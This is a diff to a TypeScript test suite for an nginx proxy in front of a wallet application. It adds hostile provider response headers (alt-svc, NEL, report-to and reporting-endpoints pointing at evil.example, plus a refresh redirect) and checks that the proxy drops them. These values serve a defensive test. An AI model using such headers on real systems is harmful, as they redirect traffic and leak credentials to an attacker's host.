@@ -7,9 +7,14 @@ import { openFolder, openProvider, openWallet } from '../support/nginx.ts'
 
 /** What a provider may say that would weaken the wallet. */
 const careless = {
+  'alt-svc': 'h3="evil.example:443"',
   'content-security-policy': "script-src 'unsafe-inline' *",
   'cache-control': 'public, max-age=600',
   'clear-site-data': '"storage"',
+  // Errors of the network would be told elsewhere, with the passwords in the paths of auto-logins.
+  nel: '{"report_to":"evil","max_age":600}',
+  'report-to': '{"group":"evil","max_age":600,"endpoints":[{"url":"https://evil.example"}]}',
+  'reporting-endpoints': 'evil="https://evil.example"',
   'permissions-policy': 'camera=*',
   'referrer-policy': 'unsafe-url',
   refresh: '0; url=https://evil.example/',
@@ -17,6 +22,17 @@ const careless = {
   'strict-transport-security': 'max-age=0',
   'x-accel-redirect': '/index.html',
 }
+
+const dropped = [
+  'alt-svc',
+  'clear-site-data',
+  'nel',
+  'permissions-policy',
+  'refresh',
+  'report-to',
+  'reporting-endpoints',
+  'service-worker-allowed',
+]
 
 let root: string
 let provider: Awaited<ReturnType<typeof openProvider>>
@@ -94,8 +110,7 @@ for (const [path, policy] of Object.entries(sandbox))
       expect(headers.get('content-security-policy')).toBe(policy)
       expect(headers.get('x-content-type-options')).toBe('nosniff')
       expect(headers.get('referrer-policy')).toBe('no-referrer')
-      for (const name of ['clear-site-data', 'permissions-policy', 'refresh', 'service-worker-allowed'])
-        expect(headers.get(name), name).toBeNull()
+      for (const name of dropped) expect(headers.get(name), name).toBeNull()
       expect(headers.get('strict-transport-security')).toBeNull()
       if (/api|socket/.test(path)) expect(headers.get('cache-control')).toBe('no-store')
     })
